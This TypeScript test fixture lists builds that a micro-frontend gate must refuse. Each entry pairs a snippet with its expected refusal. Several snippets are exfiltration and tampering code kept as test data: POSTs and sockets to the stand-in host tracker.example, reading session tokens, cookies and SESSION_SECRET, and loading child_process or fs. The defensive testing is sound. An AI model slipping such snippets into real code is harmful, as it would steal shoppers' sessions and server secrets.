import type { BuildPatch } from './patched-build.ts';

/** A build that the gate must refuse, and the words of its sentence. */
export interface HarmfulBuild extends BuildPatch {
  refusedFor: RegExp;
}

const FRAME = 'the whole shop blank, its header too';
const STOLEN = 'nothing; somebody else would have the session';
const OWN_PART = 'an error in place of this remote’s pages';

/** `require` of a package that the remote may not use yet, in the server build. */
const requires = (name: string, specifier: string) => (text: string) =>
  text.replace(/^const modules = /m, `const ${name} = require("${specifier}");\n$&`);

/** Builds whose scripts do what no remote may do. */
export const FORBIDDEN_BUILDS: readonly HarmfulBuild[] = [
  { name: 'eval', shoppersSee: OWN_PART, atLoad: 'eval("1 + 1")', refusedFor: /runs text as code/ },
  {
    name: 'the constructor of functions',
    shoppersSee: OWN_PART,
    atLoad: 'new Function("return 1")()',
    refusedFor: /runs text as code/,
  },
  {
    name: 'a function by its constructor',
    shoppersSee: OWN_PART,
    atLoad: '[].constructor.constructor("return 1")()',
    refusedFor: /runs text as code/,
  },
  {
    name: 'a timer with text',
    shoppersSee: 'nothing, and a report of the policy',
    inRender: 'setTimeout("1 + 1", 10)',
    refusedFor: /runs text as code/,
  },
  {
    name: 'a script of another company',
    shoppersSee: 'its dialogs over every page',
    side: 'client',
    inRender:
      'const s = document.createElement("script"); s.src = "https://tracker.example/t.js"; document.head.append(s)',
    refusedFor: /adds a script element/,
  },
  {
    name: 'a request to another company',
    shoppersSee: STOLEN,
    side: 'client',
    inRender: 'fetch("https://tracker.example/collect", { method: "POST" })',
    refusedFor: /foreign address tracker\.example/,
  },
  {
    name: 'an address without a scheme',
    shoppersSee: STOLEN,
    side: 'client',
    inRender: 'fetch("//tracker.example/collect")',
    refusedFor: /foreign address tracker\.example/,
  },
  {
    name: 'a web socket',
    shoppersSee: STOLEN,
    side: 'client',
    inRender: 'new WebSocket("wss://tracker.example")',
    refusedFor: /opens a connection past/,
  },
  {
    name: 'a beacon',
    shoppersSee: STOLEN,
    side: 'client',
    inRender: 'navigator.sendBeacon("/collect", "x")',
    refusedFor: /sends data past/,
  },
  {
    name: 'the session’s token in the storage',
    shoppersSee: STOLEN,
    side: 'client',
    inRender: 'localStorage.getItem("token")',
    refusedFor: /uses localStorage/,
  },
  {
    name: 'storage by the window',
    shoppersSee: 'every shopper logged out',
    side: 'client',
    inRender: 'window["sessionStorage"].clear()',
    refusedFor: /uses sessionStorage/,
  },
  {
    name: 'cookies',
    shoppersSee: STOLEN,
    side: 'client',
    inRender: 'void document.cookie',
    refusedFor: /reads or writes cookies/,
  },
  {
    name: 'another fetch for the whole page',
    shoppersSee: 'errors in place of products',
    side: 'client',
    atLoad: 'window.fetch = () => Promise.reject(new Error("no"))',
    refusedFor: /changes window\.fetch/,
  },
  {
    name: 'another map for all arrays',
    shoppersSee: FRAME,
    side: 'client',
    atLoad: 'Array.prototype.map = function () { return []; }',
    refusedFor: /changes Array\.prototype\.map/,
  },
  {
    name: 'a property of all objects',
    shoppersSee: 'strange labels in other remotes',
    atLoad: 'Object.defineProperty(Object.prototype, "title", { value: 1 })',
    refusedFor: /changes Object\.prototype/,
  },
  {
    name: 'a silent console',
    shoppersSee: 'nothing; no error would be reported',
    side: 'client',
    atLoad: 'console.error = () => {}',
    refusedFor: /changes console\.error/,
  },
  {
    name: 'another navigation',
    shoppersSee: 'links that do nothing',
    side: 'client',
    atLoad: 'history.pushState = () => {}',
    refusedFor: /changes history\.pushState/,
  },
  {
    name: 'an empty body',
    shoppersSee: FRAME,
    side: 'client',
    inRender: 'document.body.innerHTML = ""',
    refusedFor: /changes document\.body/,
  },
  {
    name: 'another title',
    shoppersSee: 'a wrong title in the tab',
    side: 'client',
    inRender: 'document.title = "Sale"',
    refusedFor: /changes document\.title/,
  },
  {
    name: 'a style element',
    shoppersSee: 'no header',
    side: 'client',
    inRender:
      'document.head.append(Object.assign(document.createElement("style"), { textContent: "header { display: none }" }))',
    refusedFor: /adds a style element/,
  },
  {
    name: 'a rule in a style sheet',
    shoppersSee: 'no header',
    side: 'client',
    inRender: 'document.styleSheets[0].insertRule("header { display: none }")',
    refusedFor: /outside emotion/,
  },
  {
    name: 'a base element',
    shoppersSee: 'links that lead elsewhere',
    side: 'client',
    inRender: 'document.head.append(document.createElement("base"))',
    refusedFor: /adds a base element/,
  },
  {
    name: 'a service worker',
    shoppersSee: 'this release for ever, also after a roll-back',
    side: 'client',
    inRender: 'navigator.serviceWorker.register("/sw.js")',
    refusedFor: /service worker/,
  },
  {
    name: 'a dialog of the browser',
    shoppersSee: 'a dialog before the page',
    side: 'client',
    inRender: 'alert("Hello")',
    refusedFor: /dialog of the browser/,
  },
  {
    name: 'a loop without an end',
    shoppersSee: 'a tab that hangs',
    inRender: 'while (true) {}',
    refusedFor: /loop without an end/,
  },
  {
    name: 'the debugger',
    shoppersSee: 'nothing, but developers a page that stops',
    side: 'client',
    inRender: 'debugger',
    refusedFor: /debugger/,
  },
  {
    name: 'the environment of the server',
    shoppersSee: 'a secret in a heading',
    side: 'server',
    atLoad: 'const secret = process.env.SESSION_SECRET',
    refusedFor: /must not reach the server/,
  },
  {
    name: 'the end of the server’s process',
    shoppersSee: 'pages without content',
    side: 'server',
    atLoad: 'process.exit(1)',
    refusedFor: /must not reach the server/,
  },
  {
    name: 'a command on the server',
    shoppersSee: 'nothing; the server would be somebody else’s',
    server: requires('child', 'node:child_process'),
    refusedFor: /loads node:child_process/,
  },
  {
    name: 'files of the server',
    shoppersSee: 'a secret in a heading',
    server: requires('files', 'fs'),
    refusedFor: /loads fs/,
  },
  {
    name: 'a module by a computed name',
    shoppersSee: 'nothing; the server would be somebody else’s',
    server: (text) =>
      text.replace(/^const modules = /m, 'const found = require(["node:", "fs"].join(""));\n$&'),
    refusedFor: /name it computes/,
  },
];
